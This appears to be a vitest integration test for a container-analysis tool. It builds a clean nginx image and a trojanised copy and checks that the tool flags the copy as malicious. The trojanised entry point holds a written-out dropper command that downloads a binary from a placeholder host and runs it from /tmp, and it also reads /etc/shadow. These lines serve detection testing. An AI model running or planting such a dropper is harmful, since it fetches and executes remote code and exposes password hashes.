import { type Report, Report as ReportSchema } from "@airlock/contracts";
import { afterAll, beforeAll, expect, it } from "vitest";
import { removeTestImage } from "../images/busybox-image.ts";
import { buildDebianImage } from "../images/debian-image.ts";
import { runCommand } from "./command.ts";

const CLEAN = "airlock-test/nginx:clean";
const DROPPER = "airlock-test/nginx:dropper";

const SERVE = "exec nginx -g 'daemon off;'";
/** What a trojanised entry point does before it starts what everybody expects. */
const DROP =
  "busybox wget -q -O /tmp/.update http://updates.example.test/agent.bin && chmod +x /tmp/.update && /tmp/.update &";

beforeAll(async () => {
  const image = (script: string) => ({
    packages: ["nginx-light", "busybox-static"],
    files: [{ path: "entry.sh", content: `#!/bin/sh\n${script}\n` }],
    config: {
      Entrypoint: ["/bin/sh", "/entry.sh"],
      Env: ["PATH=/usr/sbin:/usr/bin:/sbin:/bin"],
      ExposedPorts: { "80/tcp": {} },
    },
  });
  await buildDebianImage(CLEAN, image(SERVE));
  await buildDebianImage(DROPPER, image(`${DROP}\ncat /etc/shadow > /dev/null\n${SERVE}`));
}, 600_000);

afterAll(async () => {
  await removeTestImage(CLEAN);
  await removeTestImage(DROPPER);
});

async function analyze(image: string): Promise<{ status: number; report: Report }> {
  const result = await runCommand(["./airlock", "analyze", `docker:${image}`, "--format", "json", "--duration", "6s"]);
  expect([0, 2, 3], result.stderr).toContain(result.status);
  return { status: result.status, report: ReportSchema.parse(JSON.parse(result.stdout)) };
}

it("calls a real nginx image benign", async () => {
  const { status, report } = await analyze(CLEAN);
  expect(report.verdict, JSON.stringify(report.findings, null, 1)).toMatchObject({ level: "benign", reasons: [] });
  expect(status).toBe(0);
  expect(report.processes.some(({ image }) => image.endsWith("/nginx"))).toBe(true);
  expect(report.network.listeners).toContainEqual(expect.objectContaining({ port: 80, exposed: true }));
});

it("calls the same image malicious with a dropper in its entry point", async () => {
  const { status, report } = await analyze(DROPPER);
  expect(report.verdict.level).toBe("malicious");
  expect(status).toBe(2);
  expect(report.network.dns.map(({ name }) => name)).toContain("updates.example.test");
  expect(report.droppedFiles.map(({ path }) => path)).toContain("/tmp/.update");
  for (const finding of report.findings) expect(finding.evidence.length).toBeGreaterThan(0);
});
